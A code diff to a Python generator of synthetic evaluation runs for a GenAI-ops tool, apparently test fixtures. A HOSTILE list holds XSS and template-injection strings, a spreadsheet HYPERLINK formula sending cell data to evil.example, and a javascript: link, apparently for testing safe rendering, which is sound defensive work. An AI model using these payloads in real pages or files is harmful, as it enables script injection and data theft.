@@ -17,22 +17,8 @@ from genaiops.stats import compare_pairs, decide, estimate
 
 KINDS = ("Academic", "App", "Channel", "News", "Profile", "Shop")
 LANGUAGES = ("English", "French", "German")
-SUBJECTS = [
-    "the library",
-    "a weather service",
-    "the football club",
-    "a recipe archive",
-    "the city museum",
-    "a language course",
-]
-DEEDS = [
-    "publishes daily notes",
-    "sells tickets",
-    "offers lessons",
-    "collects stories",
-    "answers questions",
-    "lists open posts",
-]
+SUBJECTS = ["the library", "a weather service", "the football club", "a recipe archive", "the city museum"]
+DEEDS = ["publishes daily notes", "sells tickets", "offers lessons", "collects stories", "answers questions"]
 TAILS = ["for visitors of all ages", "with maps and photographs", "free of charge", "in four languages", "since 1987"]
 NODES = ("fetch_text_from_url", "summarize_text_content", "classify_with_llm")
 
@@ -40,7 +26,7 @@ HOSTILE = (
     '</script><script>document.title="owned"</script><img src=x onerror=alert(1)>',
     '"><svg onload=alert(1)>{{7*7}}{% raw %}`id`',
     '=HYPERLINK("http://evil.example/?"&A1;"click")',
-    "<!-- --> ]]> &lt;b&gt; \u202egnp.exe \x1b[31m \u2028 \ud83d\ude00 \x00",
+    "<!-- --> ]]> &lt;b&gt; \u202egnp.exe \x1b[31m \u2028 \ud83d \x00",
     "| cell | [link](javascript:alert(1)) @everyone #1 ![](http://evil.example/x.png)",
 )
 
@@ -63,6 +49,7 @@ class Sample:
     source: str = "live"
     verdict: Mapping[str, Any] | None = None
     text_words: int = 12
+    gibberish: bool = False
     evaluators: Sequence[str] = ("web_classification_flow", "summary_quality")
 
 
@@ -127,10 +114,12 @@ class _Maker:
     def sentence(self, random: Random, words: int) -> str:
         if self.sample.hostile and random.random() < 0.5:
             return random.choice(HOSTILE)
-        text = []
-        while sum(len(part.split()) for part in text) < words:
-            text.append(f"{random.choice(SUBJECTS).capitalize()} {random.choice(DEEDS)} {random.choice(TAILS)}.")
-        return " ".join(text)
+        if self.sample.gibberish:  # nothing that could be compressed beyond its alphabet
+            return " ".join(f"{random.getrandbits(28):x}" for _ in range(words))
+        return " ".join(
+            f"{random.choice(SUBJECTS).capitalize()} {random.choice(DEEDS)} {random.choice(TAILS)}."
+            for _ in range(max(1, words // 8))
+        )
 
     def run(self, dataset: str, variant: str) -> dict[str, Any]:
         run = f"web_classification_summarize_text_content_{variant}_{dataset}_7f3a"
@@ -201,8 +190,8 @@ class _Maker:
                 ),
             ]
         )
-        error = {"kind": kind, "type": "JSONDecodeError", "message": self.sentence(own, 3) if self.sample.hostile else message,
-                 "node": "classify_with_llm", "file": None, "line": None}  # fmt: skip
+        message = self.sentence(own, 3) if self.sample.hostile else message
+        error = {"kind": kind, "type": "JSONDecodeError", "message": message, "node": "classify_with_llm"}
         nodes = {
             "fetch_text_from_url": _node(page, 0.01, False, 0, 0),
             "summarize_text_content": _node("A summary.", duration * 0.5, False, 320, 48),
@@ -284,7 +273,7 @@ class _Maker:
         ]  # fmt: skip
         _write_lines(path / "outcomes.jsonl", lines)
         return {"id": path.name, "path": str(path), "evaluator": evaluator, "run": run["id"], "dataset": run["dataset"],
-                "rows": {"total": len(lines), "completed": len(lines), "failed": 0, "skipped": 0}, "status": "completed"}  # fmt: skip
+                "rows": {"total": len(lines), "completed": len(lines), "failed": 0}, "status": "completed"}  # fmt: skip
 
 
 def _node(output: Any, duration_s: float, kept: bool, tokens_in: int, tokens_out: int) -> dict[str, Any]:
